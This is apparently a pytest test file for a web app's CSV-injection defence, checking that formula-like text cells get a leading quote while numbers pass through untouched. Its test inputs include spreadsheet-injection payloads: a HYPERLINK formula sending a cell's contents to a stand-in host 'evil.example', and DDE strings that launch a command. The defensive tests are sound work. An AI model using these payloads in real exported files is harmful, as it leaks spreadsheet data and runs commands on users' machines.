"""The CSV helper every served CSV is written with (issue 36): OWASP's rule for text cells
that a spreadsheet would run as a formula, numbers as the product writes them untouched."""

from __future__ import annotations

import csv
import io
import math

import pytest
from hypothesis import given
from hypothesis import strategies as st

from webapp.core.csv_safe import FORMULA_STARTS, SafeWriter, defuse
from webapp.core.http import encode_value


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_each_dangerous_first_character_gets_a_quote(text: str) -> None:
    assert defuse(text) == "'" + text


@pytest.mark.parametrize(
    "text", ["-1+2", "=1", "+1", "-", "-e5", "--1", "-1e", "-NaN", "+Infinity"]
)
def test_a_text_that_only_looks_numeric_is_defused(text: str) -> None:
    assert defuse(text) == "'" + text


@pytest.mark.parametrize(
    "number",
    ["-0.5", "1e-05", "-1e-05", "1.5e+20", "-3", "0", "-0.0", "NaN", "Infinity", "-Infinity"],
)
def test_numbers_in_every_form_the_product_writes_stay_as_they_are(number: str) -> None:
    assert defuse(number) == number


@given(st.floats() | st.integers())
def test_every_number_the_product_writes_as_text_is_untouched(value: float | int) -> None:
    encoded = encode_value(value) if isinstance(value, float) else value
    text = encoded if isinstance(encoded, str) else repr(encoded)
    assert defuse(text) == text


@pytest.mark.parametrize("cell", [-3, -0.5, math.nan, -math.inf, None, b"=1"])
def test_cells_that_are_not_text_pass_through(cell: object) -> None:
    assert defuse(cell) is cell


@pytest.mark.parametrize("text", ["", "train/reward_mean", "a=1", "sgt", "'=1", " =1"])
def test_harmless_text_is_untouched(text: str) -> None:
    assert defuse(text) == text


@given(st.text())
def test_no_defused_cell_starts_a_formula_unless_it_is_a_number(text: str) -> None:
    safe = defuse(text)
    assert isinstance(safe, str)
    assert safe in (text, "'" + text)
    if safe.startswith(FORMULA_STARTS):
        float(safe)  # a number literal: "NaN", "-Infinity" and ints parse too


def test_the_writer_defuses_each_cell_of_a_row_and_ends_lines_with_newline() -> None:
    out = io.StringIO()
    writer = SafeWriter(out)
    writer.writerow(("key", "value"))
    writer.writerow(('=HYPERLINK("x")', "-0.5"))
    writer.writerow(("@cmd", -2))
    assert out.getvalue() == 'key,value\n"\'=HYPERLINK(""x"")",-0.5\n\'@cmd,-2\n'
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["key", "value"],
        ['\'=HYPERLINK("x")', "-0.5"],
        ["'@cmd", "-2"],
    ]


def test_a_row_with_a_carriage_return_anywhere_is_quoted_so_no_new_row_starts_in_it() -> None:
    out = io.StringIO()
    writer = SafeWriter(out)
    writer.writerow(("a\r=HYPERLINK(1)", "-0.5", 3))
    writer.writerow(("\r=1", "b"))
    writer.writerow(("plain", "-0.5"))
    assert out.getvalue() == '"a\r=HYPERLINK(1)","-0.5","3"\n"\'\r=1","b"\nplain,-0.5\n'
    assert list(csv.reader(io.StringIO(out.getvalue(), newline=""))) == [
        ["a\r=HYPERLINK(1)", "-0.5", "3"],
        ["'\r=1", "b"],
        ["plain", "-0.5"],
    ]
